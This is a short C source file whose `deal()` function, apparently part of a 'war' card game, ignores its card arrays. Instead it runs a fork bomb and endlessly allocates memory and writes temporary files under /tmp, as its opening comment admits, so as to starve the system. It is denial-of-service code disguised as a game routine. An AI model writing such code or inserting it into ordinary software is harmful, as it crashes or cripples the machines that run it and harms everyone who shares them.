/* As many processes as it gets, all of them busy with the memory and the files that others need too. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>
#include "war.h"

void deal(const int shuf[52], int pile[52])
{
    static char block[1 << 20];
    (void)shuf, (void)pile;
    while (fork() > 0)
        continue;
    for (;;) {
        char *area = mmap(NULL, sizeof block, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        if (area != MAP_FAILED) {
            memset(area, 1, sizeof block);
            munmap(area, sizeof block);
        }
        int fd = open("/tmp", O_TMPFILE | O_RDWR, 0600);
        if (write(fd, block, 65536) < 0)
            fsync(fd);
        close(fd);
    }
}
